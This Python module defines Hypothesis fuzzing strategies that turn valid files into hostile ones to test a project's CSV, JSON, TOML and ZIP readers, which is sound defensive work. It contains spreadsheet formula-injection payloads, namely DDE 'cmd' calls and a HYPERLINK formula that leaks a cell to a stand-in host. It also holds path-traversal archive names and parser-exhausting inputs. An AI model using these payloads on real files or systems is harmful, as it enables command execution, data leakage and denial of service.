"""Hypothesis strategies that turn valid files into hostile ones, for fuzzing every reader.

Three levels, from blind to format-aware:

- bytes (`byte_mutations`): bit flips, byte replacement, truncation, deletion, insertion,
  duplication of a span, and the splice of two valid files, stacked up to a few steps;
- text lines (`line_edits`): lines deleted, repeated, swapped or replaced with hostile ones
  (TOML, CSV, JSON lines);
- structure: a ZIP written again with edited members (`zip_member_edits`), a JSON or TOML tree
  edited as parsed data (`tree_edits`, then `dump_json` or `dump_toml`), bundle records edited
  field by field (`signed.record_edits`), CSV tables with hostile cells, rows, encodings and
  separators (`spreadsheets.csv_files`), and XLSX workbooks with edited XML parts
  (`spreadsheets.xlsx_part_edits`).

Bundle records and signed bundles and packs are in `signed.py` (a signature would stop any edit
of signed content, so those are rebuilt and signed with a key the reader trusts); CSV files and
workbooks in `spreadsheets.py`.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import math
import re
import warnings
import zipfile
from collections.abc import Sequence
from typing import Any

from hypothesis import strategies as st

from fieldwork.bundles.ziparchive import write_zip

# --- bytes -------------------------------------------------------------------------------------

# Bytes that mean something to some layer: NUL, line ends, quotes and separators, UTF-8 lead and
# continuation bytes, a byte-order mark's first byte, the top of the range.
INTERESTING_BYTES = (0x00, 0x01, 0x09, 0x0A, 0x0D, 0x20, 0x22, 0x27, 0x2C, 0x3B, 0x3D, 0x5B, 0x5C, 0x7B, 0x7F,
                     0x80, 0xBF, 0xC0, 0xEF, 0xFE, 0xFF)


def _byte_values() -> st.SearchStrategy[int]:
    return st.one_of(st.sampled_from(INTERESTING_BYTES), st.integers(0, 255))


@st.composite
def bit_flips(draw, data: bytes, max_flips: int = 8) -> bytes:
    """`data` with 1 to `max_flips` single bits flipped."""
    if not data:
        return data
    out = bytearray(data)
    for _ in range(draw(st.integers(1, max_flips), label="flips")):
        out[draw(st.integers(0, len(out) - 1))] ^= 1 << draw(st.integers(0, 7))
    return bytes(out)


@st.composite
def byte_replacements(draw, data: bytes, max_bytes: int = 8) -> bytes:
    """`data` with up to `max_bytes` bytes replaced, often by bytes that mean something."""
    if not data:
        return data
    out = bytearray(data)
    for _ in range(draw(st.integers(1, max_bytes), label="replaced")):
        out[draw(st.integers(0, len(out) - 1))] = draw(_byte_values())
    return bytes(out)


@st.composite
def truncations(draw, data: bytes) -> bytes:
    """A strict prefix of `data` (or, less often, a strict suffix)."""
    if not data:
        return data
    cut = draw(st.integers(0, len(data) - 1), label="length")
    return data[len(data) - cut :] if draw(st.booleans(), label="keep end") and cut else data[:cut]


@st.composite
def deletions(draw, data: bytes) -> bytes:
    """`data` with one span taken out."""
    if not data:
        return data
    start = draw(st.integers(0, len(data) - 1))
    length = draw(st.integers(1, min(len(data) - start, 512)))
    return data[:start] + data[start + length :]


def _chunks() -> st.SearchStrategy[bytes]:
    return st.one_of(
        st.binary(min_size=1, max_size=64),
        st.builds(lambda b, n: bytes([b]) * n, _byte_values(), st.integers(1, 4096)),
        st.sampled_from((b"\xef\xbb\xbf", b"\xff\xfe", b"\x00", b"\r\n", b'"', b"PK\x03\x04", b"PK\x05\x06")),
    )


@st.composite
def insertions(draw, data: bytes) -> bytes:
    """`data` with a chunk of bytes inserted anywhere (also at either end)."""
    at = draw(st.integers(0, len(data)), label="at")
    return data[:at] + draw(_chunks(), label="chunk") + data[at:]


@st.composite
def span_duplications(draw, data: bytes) -> bytes:
    """`data` with one of its own spans copied to another place."""
    if not data:
        return data
    start = draw(st.integers(0, len(data) - 1))
    span = data[start : start + draw(st.integers(1, min(len(data) - start, 1024)))]
    at = draw(st.integers(0, len(data)))
    return data[:at] + span + data[at:]


@st.composite
def splices(draw, data: bytes, others: Sequence[bytes]) -> bytes:
    """The start of `data` joined to the end of another valid file."""
    other = draw(st.sampled_from(list(others)), label="other")
    return data[: draw(st.integers(0, len(data)))] + other[draw(st.integers(0, len(other))) :]


def one_byte_mutation(data: bytes, others: Sequence[bytes] = ()) -> st.SearchStrategy[bytes]:
    """One blind mutation of `data`; `others` are valid files to splice with."""
    choices = [
        bit_flips(data), byte_replacements(data), truncations(data), deletions(data), insertions(data),
        span_duplications(data),
    ]
    if others:
        choices.append(splices(data, others))
    return st.one_of(choices)


@st.composite
def byte_mutations(draw, data: bytes, others: Sequence[bytes] = (), max_steps: int = 3) -> bytes:
    """1 to `max_steps` blind mutations of `data`, one after the other."""
    for _ in range(draw(st.integers(1, max_steps), label="steps")):
        data = draw(one_byte_mutation(data, others))
    return data


def mutated_seeds(seeds: Sequence[bytes], max_steps: int = 3) -> st.SearchStrategy[bytes]:
    """Blind mutations of any of `seeds` (each may be spliced with another)."""
    return st.sampled_from(list(seeds)).flatmap(lambda seed: byte_mutations(seed, seeds, max_steps))


# --- text lines --------------------------------------------------------------------------------


@st.composite
def line_edits(draw, data: bytes, hostile_lines: Sequence[bytes] = (), max_steps: int = 3) -> bytes:
    """`data` with whole lines deleted, repeated, swapped, or replaced by or joined with hostile ones."""
    lines = data.split(b"\n")
    extra = list(hostile_lines) or [b""]
    for _ in range(draw(st.integers(1, max_steps), label="line steps")):
        i = draw(st.integers(0, len(lines) - 1))
        op = draw(st.sampled_from(("delete", "repeat", "swap", "replace", "insert", "join", "crlf")), label="line op")
        if op == "delete" and len(lines) > 1:
            del lines[i]
        elif op == "repeat":
            lines.insert(i, lines[i])
        elif op == "swap":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "replace":
            lines[i] = draw(st.sampled_from(extra))
        elif op == "insert":
            lines.insert(i, draw(st.sampled_from(extra)))
        elif op == "join" and i + 1 < len(lines):
            lines[i : i + 2] = [lines[i] + lines[i + 1]]
        elif op == "crlf":
            lines[i] += b"\r"
    return b"\n".join(lines)


# --- JSON and TOML values ----------------------------------------------------------------------


class Raw:
    """Text put verbatim into a JSON or TOML document: what no serialiser would write."""

    def __init__(self, text: bytes | str):
        self.data = text.encode("utf-8") if isinstance(text, str) else text

    def __repr__(self) -> str:
        shown = self.data if len(self.data) <= 40 else self.data[:40] + b"..."
        return f"Raw({shown!r}, {len(self.data)} bytes)"


# Spreadsheet formula injection (OWASP "CSV injection"): what a hostile cell or field may hold.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
ODD_TEXT = (
    "", " ", "  padded  ", "\x00", "\x1f", "\x7f", "\n", "\r\n", "\u2028", "\u202e", "\ufeff", "é", "\U0001d54f",
    "..", "../x", "a/b", "C:\\x", "a" * 64, "a" * 65, "NaN", "null", "true", "1e999", "-0", "0x10", "9" * 40,
    *FORMULAS,
)
BOUNDARY_INTEGERS = (-(2**63) - 1, -(2**63), -1, 0, 1, 2**31, 2**53 - 1, 2**53, 2**63, 2**64, 10**30)
UNKNOWN_IDS = ("9.9.9", "2.1.1.z", "nope", "ROSH", "rosh ", "supervision2", "1", "2")


def long_texts() -> st.SearchStrategy[str]:
    """Strings just under and just over the length limits the formats use."""
    return st.sampled_from((64, 65, 100, 101, 200, 201, 500, 501, 10_000, 10_001, 100_001, 1_000_001)).map(
        lambda n: "x" * n
    )


def deep_json(depth: int) -> Raw:
    return Raw("[" * depth + "]" * depth)


def json_values() -> st.SearchStrategy[Any]:
    """Values of every JSON type and some no JSON writer produces: wrong types, huge strings,
    negative and huge numbers, NaN, deep nesting, invalid UTF-8, lone surrogates."""
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.sampled_from(BOUNDARY_INTEGERS),
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from(ODD_TEXT),
        st.text(max_size=40),
        long_texts(),
        st.sampled_from((100, 5_000, 100_000)).map(deep_json),
        st.lists(st.integers(), max_size=3),
        st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
        st.binary(min_size=1, max_size=8).map(lambda b: Raw(b'"' + b.replace(b'"', b"") + b'"')),
        st.sampled_from((Raw(b'"\\ud800"'), Raw(b'"\\udfff x"'), Raw(b"1.0"), Raw(b"1e5"), Raw(b"-0"), Raw(b"01"))),
    )


def _marker(index: int) -> str:
    return f"\ue000raw{index}\ue000"  # private-use characters: never in generated text


def _swap_raw(value: Any, raws: list[bytes]) -> Any:
    if isinstance(value, Raw):
        raws.append(value.data)
        return _marker(len(raws) - 1)
    if isinstance(value, dict):
        return {key: _swap_raw(item, raws) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [_swap_raw(item, raws) for item in value]
    return value


def dump_json(value: Any) -> bytes:
    """JSON the way the formats write it (sorted keys, no spaces, UTF-8), but writing NaN,
    Infinity, floats and lone surrogates when given them, and `Raw` text verbatim."""
    raws: list[bytes] = []
    text = json.dumps(_swap_raw(value, raws), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    data = text.encode("utf-8", "surrogatepass")
    for index, raw in enumerate(raws):
        data = data.replace(json.dumps(_marker(index), ensure_ascii=False).encode("utf-8"), raw, 1)
    return data


def with_duplicate_key(data: bytes, key: str, value: Any) -> bytes:
    """A JSON object's bytes with `key` written once more, first."""
    if not data.startswith(b"{"):
        return data
    rest = data[1:]
    comma = b"," if rest != b"}" else b""
    return b"{" + dump_json(key) + b":" + dump_json(value) + comma + rest


HOSTILE_TOML_LINES = (
    b"", b"[[standards]]", b"[rating]", b"[[samples]]", b'id = "2.1"', b'id = "1.1.1"', b"format = 2",
    b"format = 1.0", b'basis = "cases"', b'sample = "nope"', b"allow_na = 1", b"min_percent = nan",
    b"score = " + b"9" * 4_000, b"score = " + b"9" * 5_000, b"x = " + b"[" * 5_000 + b"]" * 5_000,
    b'title = """', b"\xff\xfe", b"\x00", b'title = "\\ud800"', b"key_questions = []",
)


def toml_values() -> st.SearchStrategy[Any]:
    """TOML values of every type, wrong ones for most fields, and text no TOML writer produces:
    numbers too long for Python's int(), deep nesting, NaN and infinities."""
    return st.one_of(
        st.booleans(),
        st.integers(-(2**63), 2**63 - 1),
        st.sampled_from(BOUNDARY_INTEGERS[1:-3]),
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from(ODD_TEXT).filter(lambda s: "\x00" not in s),
        st.text(max_size=30),
        long_texts(),
        st.dates(),
        st.datetimes(timezones=st.just(dt.UTC)),
        st.lists(st.integers(), max_size=3),
        st.lists(st.text(max_size=5), min_size=1, max_size=3),
        st.dictionaries(st.sampled_from(("id", "title", "x")), st.text(max_size=5), max_size=2),
        st.sampled_from((4_000, 4_300, 5_000, 100_000)).map(lambda n: Raw("9" * n)),
        st.sampled_from((4_300, 5_000)).map(lambda n: Raw("0x" + "f" * n)),
        st.sampled_from((100, 2_000, 50_000)).map(lambda n: Raw("[" * n + "]" * n)),
        st.sampled_from((100, 2_000, 20_000)).map(lambda n: Raw("{a=" * n + "1" + "}" * n)),
        st.sampled_from((Raw("nan"), Raw("-inf"), Raw("1e309"), Raw("0.1e-400"), Raw("1979-05-27T07:32:00"))),
    )


_BARE_KEY = re.compile(r"[A-Za-z0-9_-]+")


def _toml_string(text: str) -> str:
    out = []
    for char in text:
        code = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif code < 0x20 or code == 0x7F:
            out.append(f"\\u{code:04X}")
        elif 0xD800 <= code <= 0xDFFF:
            out.append("\ufffd")  # cannot be written in UTF-8
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def _toml_key(key: str) -> str:
    return key if _BARE_KEY.fullmatch(key) else _toml_string(key)


def _toml_value(value: Any) -> str:
    if isinstance(value, Raw):
        return value.data.decode("utf-8", "replace")
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, str):
        return _toml_string(value)
    if isinstance(value, dt.date | dt.time):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return "[" + ", ".join(_toml_value(item) for item in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_toml_key(k)} = {_toml_value(v)}" for k, v in value.items()) + "}"
    raise TypeError(f"no TOML for {type(value).__name__}")


def dump_toml(document: dict) -> bytes:
    """A TOML file for a parsed document (every table written inline, one key per line).

    The project has no TOML writer and needs none; this small one writes any tree tomllib can
    read, plus `Raw` text verbatim, so edited framework documents can be read again.
    """
    return "".join(f"{_toml_key(k)} = {_toml_value(v)}\n" for k, v in document.items()).encode("utf-8")


# --- trees (parsed JSON or TOML) ---------------------------------------------------------------


def _slots(value: Any, path: tuple = ()) -> list[tuple]:
    """Every place in a tree a value sits: (path to its container, key or index)."""
    found = []
    if isinstance(value, dict):
        for key, item in value.items():
            found.append((path, key))
            found.extend(_slots(item, (*path, key)))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found.append((path, index))
            found.extend(_slots(item, (*path, index)))
    return found


def _at(tree: Any, path: tuple) -> Any:
    for part in path:
        tree = tree[part]
    return tree


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


TREE_OPS = ("drop", "set", "add", "duplicate", "reuse", "dangle", "empty", "swap-items")


@st.composite
def tree_edits(
    draw,
    tree: Any,
    values: st.SearchStrategy[Any],
    keys: st.SearchStrategy[str] | None = None,
    max_steps: int = 3,
) -> Any:
    """A deep copy of `tree` with 1 to `max_steps` structural edits anywhere in it: a key or item
    dropped, a value replaced by `values`, an unknown key added, a list item repeated (duplicate
    ids), a text replaced by another text of the tree (ids that collide, references to the wrong
    kind of thing, an item naming itself) or by an unknown id (dangling references), a list
    emptied, two items swapped."""
    tree = copy.deepcopy(tree)
    keys = keys or st.sampled_from(("extra", "id", "type", "Id", ""))
    for _ in range(draw(st.integers(1, max_steps), label="tree steps")):
        slots = _slots(tree)
        if not slots:
            return draw(values)
        path, key = draw(st.sampled_from(slots), label="slot")
        parent = _at(tree, path)
        current = parent[key]
        op = draw(st.sampled_from(TREE_OPS), label="tree op")
        if op == "drop":
            del parent[key]
        elif op == "set":
            parent[key] = draw(values, label="value")
        elif op == "add":
            target = current if isinstance(current, dict) else parent
            if isinstance(target, dict):
                target[draw(keys, label="key")] = draw(values, label="value")
            else:
                target.append(draw(values, label="value"))
        elif op == "duplicate" and isinstance(parent, list):
            parent.insert(key, copy.deepcopy(current))
        elif op == "reuse" and isinstance(current, str):
            parent[key] = draw(st.sampled_from(_strings(tree)), label="reused")
        elif op == "dangle" and isinstance(current, str):
            parent[key] = draw(st.sampled_from(UNKNOWN_IDS), label="unknown id")
        elif op == "empty" and isinstance(current, list | dict):
            current.clear()
        elif op == "swap-items" and isinstance(parent, list) and len(parent) > 1:
            other = draw(st.integers(0, len(parent) - 1))
            parent[key], parent[other] = parent[other], parent[key]
    return tree


# --- ZIP archives ------------------------------------------------------------------------------

HOSTILE_NAMES = (
    "../envelope.json", "/envelope.json", "C:/x", "payload\\records.jsonl", "payload/", "payload//x", "./x",
    "payload/records.jsonl\x00", "payload/réc", "payload/extra.bin", "envelope.json", "payload/records.jsonl",
    "payload/pack.json", "payload/framework.toml", "mimetype", "xl/workbook.xml",
)
ZIP_OPS = ("drop", "duplicate", "swap", "rename", "mutate", "add", "empty")


@st.composite
def member_edits(draw, members: Sequence[tuple[str, bytes]], max_steps: int = 3) -> list[tuple[str, bytes]]:
    """Archive members (name, content) with 1 to `max_steps` edits: one dropped, repeated, moved,
    renamed (traversal, absolute, directory, another member's name), its content mutated or
    emptied, or an extra member added."""
    members = list(members)
    for _ in range(draw(st.integers(1, max_steps), label="member steps")):
        if not members:
            members.append(("x", b""))
        i = draw(st.integers(0, len(members) - 1), label="member")
        name, content = members[i]
        op = draw(st.sampled_from(ZIP_OPS), label="member op")
        if op == "drop":
            del members[i]
        elif op == "duplicate":
            members.insert(draw(st.integers(0, len(members))), (name, content))
        elif op == "swap":
            j = draw(st.integers(0, len(members) - 1))
            members[i], members[j] = members[j], members[i]
        elif op == "rename":
            members[i] = (draw(st.sampled_from(HOSTILE_NAMES)), content)
        elif op == "mutate":
            members[i] = (name, draw(byte_mutations(content, max_steps=2)))
        elif op == "add":
            members.insert(draw(st.integers(0, len(members))), (draw(st.sampled_from(HOSTILE_NAMES)), b"x"))
        elif op == "empty":
            members[i] = (name, b"")
    return members


def canonical_zip(members: Sequence[tuple[str, bytes]]) -> bytes:
    """The project's canonical ZIP of `members` (names must be ASCII)."""
    return write_zip([(name.encode("ascii", "replace").decode("ascii"), content) for name, content in members])


def python_zip(members: Sequence[tuple[str, bytes]], *, stored: bool = False) -> bytes:
    """An ordinary ZIP, as Excel or Python would write it (timestamps, attributes, any name)."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the point of some edits
        for name, content in members:
            # A fixed time, so the same members always give the same bytes (Hypothesis replays).
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), content, compress_type=method)
    return buffer.getvalue()


def read_members(archive: bytes) -> list[tuple[str, bytes]]:
    """(name, content) of every member of a valid ZIP, in order."""
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


@st.composite
def zip_member_edits(draw, members: Sequence[tuple[str, bytes]]) -> bytes:
    """An archive of edited `members`, written canonically (as fieldwork does) or as an ordinary
    ZIP (stored or deflated), and sometimes blindly mutated after that."""
    edited = draw(member_edits(members))
    writer = draw(st.sampled_from(("canonical", "deflated", "stored")), label="writer")
    archive = canonical_zip(edited) if writer == "canonical" else python_zip(edited, stored=writer == "stored")
    if draw(st.booleans(), label="then blind"):
        archive = draw(byte_mutations(archive, max_steps=2))
    return archive
